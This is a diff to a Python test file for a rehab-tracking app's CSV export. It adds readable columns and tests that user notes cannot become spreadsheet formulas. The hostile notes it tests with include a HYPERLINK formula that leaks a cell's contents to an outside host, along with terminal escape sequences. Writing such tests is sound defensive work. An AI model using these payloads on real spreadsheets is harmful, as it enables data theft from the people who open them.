@@ -1,4 +1,5 @@
-"""`sitbone export --format csv`: one file per kind, every cell checked, bad input, failures."""
+"""`sitbone export --format csv`: one file per kind, every cell checked, the columns a person
+reads beside the stored ones, formulas kept as text, bad input, failures."""
 
 from __future__ import annotations
 
@@ -11,18 +12,43 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
 from pydantic import BaseModel
 
 from cli.main import main
+from journal.journal import Journal
 from store import Home, Store
-from store.records import RECORD_TABLES, PainEntry, Profile
-from tests.conftest import NOW, TODAY, fixed_clock
+from store.records import (
+    RECORD_TABLES,
+    ExerciseSession,
+    OutcomeMeasure,
+    PainEntry,
+    PhaseChange,
+    Profile,
+    RedFlagChange,
+    RunSession,
+)
+from tests.conftest import NOW, PHYSIO_PLAN, TODAY, fixed_clock
+from tests.hostile import hostile_text
 
 ROOT = Path(__file__).resolve().parents[2]
 PAIN_HEADER = [
     "id", "at", "context", "rest", "load_test", "activity", "stiffness_min", "sitting_min",
-    "chair", "aggravators", "note", "bridge_left", "bridge_right", "walk_min",
+    "chair", "aggravators", "note", "bridge_left", "bridge_right", "walk_min", "for_clinician",
 ]  # fmt: skip
+# The columns a person reads, after the stored ones, by file.
+READABLE = {
+    "pain": ["date", "time", "zone", "response", "verdict"],
+    "exercise_sessions": ["date", "time", "exercise_name", "phase_name"],
+    "runs": ["date", "time", "program_name", "outcome", "outcome_reason", "minutes"],
+    "phase_history": ["date", "time", "from_phase_name", "to_phase_name", "kind"],
+    "run_unlocks": ["date", "time", "phase_name"],
+    "red_flag_history": ["date", "time", "raised_names", "cleared_names"],
+    "outcomes": ["date", "time"],
+}
+# Where a spreadsheet starts a formula: written here, not imported, to check the module by.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
 
 def export(home: Home, *args: str, clock=fixed_clock) -> int:
@@ -59,8 +85,12 @@ def test_every_kind_gets_a_file_with_its_header(demo_home: Home, tmp_path: Path,
     assert files_in(out) == sorted(f"{kind}.csv" for kind in RECORD_TABLES)
     for kind, model in RECORD_TABLES.items():
         columns, _ = read_csv(out / f"{kind}.csv")
-        assert columns == ["id", *(model.model_fields if model else [])], kind
-    assert read_csv(out / "pain.csv")[0] == PAIN_HEADER
+        stored = ["id", *(model.model_fields if model else [])]
+        assert columns == [*stored, *READABLE.get(kind, [])], kind
+    assert read_csv(out / "pain.csv")[0] == [*PAIN_HEADER, *READABLE["pain"]]
+    assert read_csv(out / "outcomes.csv")[0] == [
+        "id", "at", "kind", "score", "sitting_min", "chair", "note", "date", "time",
+    ]  # fmt: skip
     assert len(read_csv(out / "pain.csv")[1]) == len(Store(demo_home).pain_entries())
 
 
@@ -104,20 +134,33 @@ def test_pain_cells_exactly(home: Home, tmp_path: Path) -> None:
             "id": "1", "at": "2026-11-20T18:45:00", "context": "after-run", "rest": "2",
             "load_test": "3", "activity": "4", "stiffness_min": "15", "sitting_min": "40",
             "chair": "car", "aggravators": "hills;sitting", "note": note, "bridge_left": "22",
-            "bridge_right": "18", "walk_min": "30",
+            "bridge_right": "18", "walk_min": "30", "for_clinician": "false",
+            "date": "2026-11-20", "time": "18:45", "zone": "amber", "response": "",
+            "verdict": "Pain during activity 4/10, amber: acceptable if it settles by "
+            "tomorrow morning. A load test outside the morning is kept, but the gates and "
+            "the 24-hour response read the morning check-in's.",
         },
-        {**blank, "id": "2", "at": "2026-11-19T07:00:00", "context": "morning", "rest": "0"},
+        {
+            **blank, "id": "2", "at": "2026-11-19T07:00:00", "context": "morning", "rest": "0",
+            "for_clinician": "false", "date": "2026-11-19", "time": "07:00", "zone": "green",
+            "response": "no baseline yet",
+            "verdict": "Rest 0/10, green: no baseline yet (it comes from earlier morning "
+            "check-ins); safe: carry on with your plan.",
+        },
     ]  # fmt: skip
 
 
 def pain_from_row(row: dict[str, str]) -> PainEntry:
-    """Read a CSV row back into an entry: blank is 'not given', aggravators split on ';'."""
+    """Read a CSV row's stored columns back into an entry, as a script would: blank is 'not
+    given', aggravators split on ';', the readable columns left out."""
     fields: dict[str, Any] = {}
     for name, value in row.items():
-        if name == "id" or value == "":
+        if name == "id" or name in READABLE["pain"] or value == "":
             continue
         if name == "aggravators":
             fields[name] = tuple(value.split(";"))
+        elif name == "for_clinician":
+            fields[name] = value == "true"
         elif name in {"at", "context", "chair", "note"}:
             fields[name] = value
         else:
@@ -134,7 +177,11 @@ def test_pain_rows_match_the_store_and_round_trip(demo_home: Home, tmp_path: Pat
     for row in rows:
         entry = stored[int(row["id"])]
         dumped = entry.model_dump(mode="json")
-        assert row == {"id": row["id"], **{k: expected_cell(v) for k, v in dumped.items()}}
+        stored_columns = {name: row[name] for name in PAIN_HEADER}
+        assert stored_columns == {
+            "id": row["id"],
+            **{k: expected_cell(v) for k, v in dumped.items()},
+        }
         assert pain_from_row(row) == entry
 
 
@@ -358,6 +405,75 @@ def test_cell_escapes_text_only() -> None:
     assert cell("2026-11-21T09:30:00") == "2026-11-21T09:30:00"
 
 
+HOSTILE_NOTES = (
+    '=HYPERLINK("http://example.com/?leak="&A1,"details")',
+    "+1",
+    "-2",
+    "@SUM(A1:A9)",
+    "\tx",
+    "\rx",
+    "=\x1b]2;owned\x07",  # a formula holding terminal escapes
+    "-\x00\x9b31m",  # NUL and a one-byte CSI after a minus
+    "@\n=1+1",  # a line break, then another formula
+)
+
+
+def written_notes(home: Home, notes: tuple[str, ...], out: Path) -> dict[str, list[str]]:
+    """Store each note on a pain entry, a session, a run and an outcome measure (as older data
+    or another program might, past the command line's checks), export, and read the notes
+    back by file with Python's csv reader."""
+    store = Store(home, fixed_clock)
+    store.add_many("pain", [PainEntry(at=NOW, rest=2, note=note) for note in notes])
+    store.add_many(
+        "exercise_sessions",
+        [
+            ExerciseSession(at=NOW, exercise="isometric-bridge-hold", phase=1, sets=5, note=n)
+            for n in notes
+        ],
+    )
+    store.add_many(
+        "runs",
+        [
+            RunSession(at=NOW, program="sitbone", stage=1, completed=True, seconds_done=60, note=n)
+            for n in notes
+        ],
+    )
+    store.add_many(
+        "outcomes",
+        [OutcomeMeasure(at=NOW, kind="visa-h", score=50, note=note) for note in notes],
+    )
+    assert export(home, "--output", str(out)) == 0
+    return {
+        kind: [row["note"] for row in read_csv(out / f"{kind}.csv")[1]]
+        for kind in ("pain", "exercise_sessions", "runs", "outcomes")
+    }
+
+
+def test_hostile_notes_come_back_as_text(home: Home, tmp_path: Path) -> None:
+    quiet = ("\x1b[2J\x1b[H", "fine = good", "'already quoted")
+    for kind, notes in written_notes(home, HOSTILE_NOTES + quiet, tmp_path / "out").items():
+        assert notes == [f"'{note}" for note in HOSTILE_NOTES] + list(quiet), kind
+
+
+@settings(max_examples=30, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    note=st.one_of(
+        hostile_text,
+        st.tuples(st.sampled_from([*FORMULA_STARTS, "'", " ", "\n"]), hostile_text).map("".join),
+        st.text(max_size=200),
+    )
+)
+def test_any_note_comes_back_with_at_most_a_quote_added(
+    tmp_path_factory: pytest.TempPathFactory, note: str
+) -> None:
+    folder = tmp_path_factory.mktemp("note")
+    written = written_notes(Home(folder / "home"), (note,), folder / "out")
+    for kind, [cell] in written.items():
+        assert cell in (note, f"'{note}"), kind
+        assert cell == (f"'{note}" if note.startswith(FORMULA_STARTS) else note), kind
+        assert not cell.startswith(FORMULA_STARTS), kind
+
+
 # -- private folders and files ---------------------------------------------------------------------
 
 
@@ -412,3 +528,206 @@ def test_a_json_export_that_cannot_be_written_exits_1_with_one_line(
     err = capsys.readouterr().err
     assert err == f"sitbone: {target}: the disk is full; nothing was written\n"
     assert not target.exists() and files_in(tmp_path) == ["home"]
+
+
+# -- the columns a person reads ----------------------------------------------------------------
+
+
+def rows_by_id(path: Path) -> dict[int, dict[str, str]]:
+    return {int(row["id"]): row for row in read_csv(path)[1]}
+
+
+def test_readable_columns_on_the_demo_home(demo_home: Home, tmp_path: Path) -> None:
+    assert export(demo_home, "--output", str(tmp_path)) == 0
+    journal = Journal.open(demo_home, fixed_clock)
+    library = journal.library
+
+    # Pain: the zone, response and verdict the app gives, by the same rules.
+    pain = rows_by_id(tmp_path / "pain.csv")
+    pairs = journal.pain_entries()
+    assert sorted(pain) == sorted(record_id for record_id, _ in pairs)
+    for (record_id, entry), judged in zip(
+        pairs, journal.judge_all([entry for _, entry in pairs]), strict=True
+    ):
+        row = pain[record_id]
+        assert (row["date"], row["time"]) == (entry.at.date().isoformat(), f"{entry.at:%H:%M}")
+        assert row["zone"] == judged.zone.colour
+        assert row["response"] == (judged.response.value if judged.response else "")
+        assert row["verdict"] == judged.line
+    assert {row["zone"] for row in pain.values()} >= {"green", "amber"}
+    assert {row["response"] for row in pain.values()} >= {"", "settled", "no baseline yet"}
+
+    sessions = rows_by_id(tmp_path / "exercise_sessions.csv")
+    assert sessions
+    for row in sessions.values():
+        exercise = library.exercise(row["exercise"])
+        assert exercise is not None and row["exercise_name"] == exercise.name
+        assert row["phase_name"] == library.phase(int(row["phase"])).name
+
+    # Runs: the outcome and its reason as the Run screen shows them.
+    runs = rows_by_id(tmp_path / "runs.csv")
+    state = journal.running("sitbone")
+    assert sorted(runs) == sorted(state.verdicts)
+    for record_id, run in state.runs:
+        row, verdict = runs[record_id], state.verdicts[record_id]
+        assert (row["outcome"], row["outcome_reason"]) == (verdict.outcome.label, verdict.reason)
+        assert row["program_name"] == state.program.name
+        assert float(row["minutes"]) == round(run.seconds_done / 60, 1)
+    assert {row["outcome"] for row in runs.values()} >= {"pass", "repeat"}
+
+    changes = rows_by_id(tmp_path / "phase_history.csv")
+    assert [row["kind"] for row in changes.values()] == ["advance"] * len(changes)
+    for row in changes.values():
+        assert row["from_phase_name"] == library.phase(int(row["from_phase"])).name
+        assert row["to_phase_name"] == library.phase(int(row["to_phase"])).name
+
+    nerve = "Tingling or pain down the leg, back pain"
+    flags = list(rows_by_id(tmp_path / "red_flag_history.csv").values())
+    assert [(row["raised_names"], row["cleared_names"]) for row in flags[:2]] == [
+        (nerve, ""),
+        ("", nerve),
+    ]
+    [unlock] = rows_by_id(tmp_path / "run_unlocks.csv").values()
+    assert unlock["phase_name"] == library.phase(int(unlock["phase"])).name
+
+
+def test_phase_changes_name_their_kind(profiled_home: Home, tmp_path: Path) -> None:
+    store = Store(profiled_home, fixed_clock)
+    store.add_many(
+        "phase_history",
+        [
+            PhaseChange(
+                at=datetime(2026, 10, 1, 20), from_phase=1, to_phase=2, reason="gate passed"
+            ),
+            PhaseChange(
+                at=datetime(2026, 10, 20, 20), from_phase=2, to_phase=3,
+                reason="my physio cleared me", overridden=True,
+            ),
+            PhaseChange(at=datetime(2026, 11, 2, 8, 5), from_phase=3, to_phase=2, reason="sore"),
+        ],
+    )  # fmt: skip
+    assert export(profiled_home, "--output", str(tmp_path / "out")) == 0
+    _, rows = read_csv(tmp_path / "out" / "phase_history.csv")
+    names = {phase.number: phase.name for phase in Journal.open(profiled_home).library.phases}
+    assert [
+        (row["date"], row["time"], row["from_phase_name"], row["to_phase_name"], row["kind"])
+        for row in rows
+    ] == [
+        ("2026-10-01", "20:00", names[1], names[2], "advance"),
+        ("2026-10-20", "20:00", names[2], names[3], "override"),
+        ("2026-11-02", "08:05", names[3], names[2], "step back"),
+    ]
+    # The stored columns are unchanged.
+    assert [(row["overridden"], row["reason"]) for row in rows] == [
+        ("false", "gate passed"),
+        ("true", "my physio cleared me"),
+        ("false", "sore"),
+    ]
+
+
+def test_outcome_measures_get_their_own_file(home: Home, tmp_path: Path) -> None:
+    store = Store(home, fixed_clock)
+    store.add_many(
+        "outcomes",
+        [
+            OutcomeMeasure(at=datetime(2026, 11, 1, 9), kind="visa-h", score=62),
+            OutcomeMeasure(
+                at=datetime(2026, 11, 8, 19, 30), kind="sitting", sitting_min=25, chair="car",
+                note="-stopped at the services",
+            ),
+        ],
+    )  # fmt: skip
+    assert export(home, "--output", str(tmp_path / "out")) == 0
+    assert read_csv(tmp_path / "out" / "outcomes.csv")[1] == [
+        {
+            "id": "1", "at": "2026-11-01T09:00:00", "kind": "visa-h", "score": "62",
+            "sitting_min": "", "chair": "", "note": "", "date": "2026-11-01", "time": "09:00",
+        },
+        {
+            "id": "2", "at": "2026-11-08T19:30:00", "kind": "sitting", "score": "",
+            "sitting_min": "25", "chair": "car", "note": "'-stopped at the services",
+            "date": "2026-11-08", "time": "19:30",
+        },
+    ]  # fmt: skip
+
+
+def test_for_clinician_is_a_column_of_pain_sessions_and_runs(home: Home, tmp_path: Path) -> None:
+    store = Store(home, fixed_clock)
+    at = datetime(2026, 11, 20, 8)
+    store.add_many("pain", [PainEntry(at=at, rest=1), PainEntry(at=at, rest=2, for_clinician=True)])
+    store.add_many(
+        "exercise_sessions",
+        [
+            ExerciseSession(at=at, exercise="isometric-bridge-hold", phase=1, sets=5, hold_s=30),
+            ExerciseSession(
+                at=at, exercise="isometric-bridge-hold", phase=1, sets=5, hold_s=30,
+                for_clinician=True,
+            ),
+        ],
+    )  # fmt: skip
+    store.add_many(
+        "runs",
+        [
+            RunSession(at=at, program="sitbone", stage=1, completed=True, seconds_done=2045),
+            RunSession(
+                at=at, program="sitbone", stage=1, completed=True, seconds_done=1680,
+                for_clinician=True,
+            ),
+        ],
+    )  # fmt: skip
+    assert export(home, "--output", str(tmp_path / "out")) == 0
+    for kind in ("pain", "exercise_sessions", "runs"):
+        _, rows = read_csv(tmp_path / "out" / f"{kind}.csv")
+        assert [row["for_clinician"] for row in rows] == ["false", "true"], kind
+    _, runs = read_csv(tmp_path / "out" / "runs.csv")
+    assert [row["minutes"] for row in runs] == ["34.1", "28"]
+
+
+def test_red_flags_are_named_and_a_dropped_flag_keeps_its_id(home: Home, tmp_path: Path) -> None:
+    store = Store(home, fixed_clock)
+    store.add_many(
+        "red_flag_history",
+        [
+            RedFlagChange(at=datetime(2026, 11, 1, 8), raised=("avulsion", "gone-flag")),
+            RedFlagChange(
+                at=datetime(2026, 11, 3, 8), cleared=("avulsion", "gone-flag"), reason="seen"
+            ),
+        ],
+    )
+    assert export(home, "--output", str(tmp_path / "out")) == 0
+    _, rows = read_csv(tmp_path / "out" / "red_flag_history.csv")
+    names = "A sudden pop: possible torn tendon;gone-flag"
+    assert [(row["raised"], row["raised_names"], row["cleared_names"]) for row in rows] == [
+        ("avulsion;gone-flag", names, ""),
+        ("", "", names),
+    ]
+
+
+def test_runs_of_a_persons_program_and_of_a_removed_one(
+    profiled_home: Home, tmp_path: Path
+) -> None:
+    # A name from a file the person wrote is text like a note: it cannot start a formula.
+    profiled_home.programs_dir.mkdir(exist_ok=True)
+    plan = profiled_home.programs_dir / "physio.yaml"
+    plan.write_text(PHYSIO_PLAN.replace("My physio's plan", "'@plan'"), encoding="utf-8")
+    store = Store(profiled_home, fixed_clock)
+    at = datetime(2026, 11, 20, 17)
+    store.add_many(
+        "runs",
+        [
+            RunSession(at=at, program="physio-plan", stage=1, completed=True, seconds_done=1200),
+            RunSession(at=at, program="gone-plan", stage=1, completed=True, seconds_done=600),
+        ],
+    )
+    assert export(profiled_home, "--output", str(tmp_path / "out")) == 0
+    _, rows = read_csv(tmp_path / "out" / "runs.csv")
+    state = Journal.open(profiled_home, fixed_clock).running("physio-plan")
+    [(record_id, _)] = state.runs
+    verdict = state.verdicts[record_id]
+    assert [
+        (row["program_name"], row["outcome"], row["outcome_reason"], row["minutes"]) for row in rows
+    ] == [
+        ("'@plan", verdict.outcome.label, verdict.reason, "20"),
+        # No stages left to judge it by: no outcome, rather than one from another program.
+        ("", "", "", "10"),
+    ]
